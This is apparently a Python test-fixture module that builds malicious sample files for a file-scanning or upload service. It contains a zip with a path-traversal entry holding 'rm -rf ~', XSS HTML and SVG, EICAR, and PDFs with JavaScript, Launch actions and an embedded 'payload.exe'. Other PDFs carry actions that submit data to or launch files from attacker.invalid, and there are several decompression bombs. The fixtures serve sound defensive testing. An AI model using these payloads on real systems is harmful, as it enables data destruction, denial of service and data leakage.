"""Real files made by the tests themselves: photos with EXIF, bombs, disguised executables, PDFs."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import ExifTags, Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RED = (255, 0, 0)
WHITE = (255, 255, 255)

# Minimal executables: enough for the magic numbers every loader (and sniffer) looks at.
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>'


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.sh", "#!/bin/sh\nrm -rf ~\n")
        archive.writestr("bomb.bin", b"\x00" * 10_000_000)
    return out.getvalue()


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestPhone"
    exif[ExifTags.Base.Model] = "Model X"
    exif[ExifTags.Base.Artist] = "山田テスト太郎"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (35.0, 41.0, 22.2),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (139.0, 41.0, 30.1),
    }
    return exif


def left_red(width: int, height: int) -> Image.Image:
    """A white picture whose left half is red: where red lands tells how it was turned."""
    image = Image.new("RGB", (width, height), WHITE)
    image.paste(RED, (0, 0, width // 2, height))
    return image


def jpeg(width: int = 400, height: int = 200, *, orientation: int = 1, exif: bool = True, quality: int = 90) -> bytes:
    out = io.BytesIO()
    options = {"exif": gps_exif(orientation)} if exif else {}
    left_red(width, height).save(out, "JPEG", quality=quality, **options)
    return out.getvalue()


def png(width: int = 300, height: int = 200, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    image = left_red(width, height).convert(mode)
    info = {"exif": gps_exif()} if mode != "P" else {}
    image.save(out, "PNG", **info)
    return out.getvalue()


def heic(width: int = 640, height: int = 480, *, orientation: int = 1) -> bytes:
    import pillow_heif

    out = io.BytesIO()
    heif = pillow_heif.from_pillow(left_red(width, height))
    heif.save(out, quality=80, exif=gps_exif(orientation).tobytes())
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A few hundred bytes whose header claims `width`×`height` pixels (8-bit RGB)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" + b"\x00" * 3 * 64)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def compressible_png(width: int, height: int) -> bytes:
    """A complete, valid 1-bit black PNG: `width`×`height` pixels in a tiny file."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    batch = row * max(1, 4_000_000 // len(row))
    rows_per_batch = len(batch) // len(row)
    data = []
    remaining = height
    while remaining:
        count = min(rows_per_batch, remaining)
        data.append(packer.compress(batch if count == rows_per_batch else row * count))
        remaining -= count
    data.append(packer.flush())
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(data)) + _chunk(b"IEND", b"")


def pdf(**changes) -> bytes:
    """A one-page PDF, changed by `changes(pdf)` hooks named below."""
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    for name, value in changes.items():
        PDF_CHANGES[name](document, value)
    out = io.BytesIO()
    save_options = {}
    if "encrypt" in changes:
        owner, user = changes["encrypt"]
        save_options["encryption"] = pikepdf.Encryption(owner=owner, user=user)
    document.save(out, **save_options)
    return out.getvalue()


def _javascript_open_action(document: pikepdf.Pdf, code: str) -> None:
    document.Root.OpenAction = document.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
    )


def _javascript_in_names(document: pikepdf.Pdf, code: str) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), document.make_indirect(action)]))
    )


def _page_action(document: pikepdf.Pdf, path: str) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(path))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=launch)


def _embedded_file(document: pikepdf.Pdf, data: bytes) -> None:
    document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(document, data)


def _xfa(document: pikepdf.Pdf, xml: str) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Stream(document, xml.encode()))


def _encrypt(document: pikepdf.Pdf, passwords: tuple[str, str]) -> None:
    """Applied when saving."""


SHARE = r"\\attacker.invalid\share"
# One action of each kind that reaches outside the file, as the review listed them.
REMOTE_ACTIONS = {
    "GoToR": lambda: pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String(SHARE + r"\report.pdf"), D=pikepdf.Array([0, pikepdf.Name.Fit])
    ),
    "GoToE": lambda: pikepdf.Dictionary(
        S=pikepdf.Name.GoToE,
        F=pikepdf.String(SHARE + r"\outer.pdf"),
        D=pikepdf.Array([0, pikepdf.Name.Fit]),
        T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("inner.pdf")),
    ),
    "ImportData": lambda: pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String(SHARE + r"\data.fdf")),
    "SubmitForm": lambda: pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm,
        F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://attacker.invalid/collect")),
        Flags=4,
    ),
    "Launch": lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(SHARE + r"\run.exe")),
    "URI https": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://bank.example/statement")),
    "URI javascript": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
}


def _link(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    """A link annotation over the top of the first page that runs `action` when clicked."""
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([72, 760, 300, 780]), A=action
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])


def _link_action(document: pikepdf.Pdf, kind: str) -> None:
    _link(document, REMOTE_ACTIONS[kind]())


def _open_action(document: pikepdf.Pdf, kind: str) -> None:
    document.Root.OpenAction = document.make_indirect(REMOTE_ACTIONS[kind]())


def _page_open_action(document: pikepdf.Pdf, kind: str) -> None:
    document.pages[0].obj.AA = pikepdf.Dictionary(O=REMOTE_ACTIONS[kind]())


def _internal_links(document: pikepdf.Pdf, pages: int) -> None:
    """`pages` more pages and, on the first, a table of contents: a /GoTo link and a /Dest link."""
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    _link(
        document, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[-1].obj, pikepdf.Name.Fit]))
    )
    dest = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([72, 730, 300, 750]),
        Dest=pikepdf.Array([document.pages[1].obj, pikepdf.Name.Fit]),
    )
    document.pages[0].obj.Annots.append(document.make_indirect(dest))


PDF_CHANGES = {
    "open_action_js": _javascript_open_action,
    "names_js": _javascript_in_names,
    "page_launch": _page_action,
    "embedded": _embedded_file,
    "xfa": _xfa,
    "encrypt": _encrypt,
    "link_action": _link_action,
    "open_action": _open_action,
    "page_open_action": _page_open_action,
    "internal_links": _internal_links,
}


def raw_pdf(*extra_objects: bytes, page: bytes = b"") -> bytes:
    """A one-page PDF written by hand, with `extra_objects` (numbered from 4) that only `page` entries refer to."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>" % page,
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


GB = 1 << 30


def deflate_bomb(prefix: bytes, inflated: int, chunk: int = 1 << 20) -> bytes:
    """zlib data that inflates to `prefix` and then `inflated` spaces, made without that memory.

    After a full flush the compressor forgets its history, so every further megabyte of
    spaces compresses to the same bytes: one piece is made and repeated (about 1,000:1).
    """
    spaces = b" " * chunk
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate: header and checksum added here
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)
    count = inflated // chunk
    check = zlib.adler32(prefix)
    for _ in range(count):
        check = zlib.adler32(spaces, check)
    return b"\x78\xda" + head + piece * count + packer.flush() + check.to_bytes(4, "big")


@functools.cache
def object_stream_bomb(inflated: int = GB) -> bytes:
    """A valid PDF 1.5 of about 1 MB per GB `inflated`: one object sits in a Flate bomb of an object stream.

    Hand-written (pikepdf cannot be asked for padding): catalog, pages and page as plain
    objects, object 4 (the page's /Info, harmless) inside object stream 5, and a
    cross-reference stream 6, the only way to point into an object stream.
    """
    header, inner = b"4 0 ", b"<< /Producer (scanner) >>"
    data = deflate_bomb(header + inner + b"\n", inflated)
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Info 4 0 R >>",
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]  # type, offset or object stream, generation or index
    for number, body in enumerate(plain, start=1):
        rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows.append(b"\x02" + (5).to_bytes(4, "big") + bytes(2))
    rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    xref = len(out)
    rows.append(b"\x01" + xref.to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


@functools.cache
def content_stream_bomb(inflated: int = GB) -> bytes:
    """A one-page PDF of a few KB whose page content is Flate in Flate: `inflated` bytes once both are undone."""
    twice = zlib.compress(deflate_bomb(b"q Q ", inflated), 9)
    contents = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
    return raw_pdf(contents, page=b"/Resources << >> /Contents 4 0 R ")
